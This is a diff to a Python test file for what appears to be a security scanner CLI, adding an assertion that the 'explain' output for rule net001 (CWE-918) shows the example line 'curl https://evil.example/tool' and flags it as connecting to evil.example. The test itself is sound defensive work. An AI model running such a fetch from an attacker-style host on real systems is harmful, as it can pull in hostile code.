@@ -246,5 +246,8 @@ def test_the_command_line_itself(tree: Path, words: tuple[str, ...]) -> None:
 def test_explain_and_selftest(tree: Path) -> None:
     done = gk("explain", "net001", cwd=tree)
     assert done.returncode == 0 and "CWE-918" in done.stdout
+    assert (
+        "  # example.sh\n  curl https://evil.example/tool\n  -> line 1: curl connects to evil.example\n" in done.stdout
+    )
     assert "did you mean 'NET001'?" in gk("explain", "NET01", cwd=tree).stderr
     assert gk("selftest", cwd=tree).stdout.endswith("all as they should be\n")
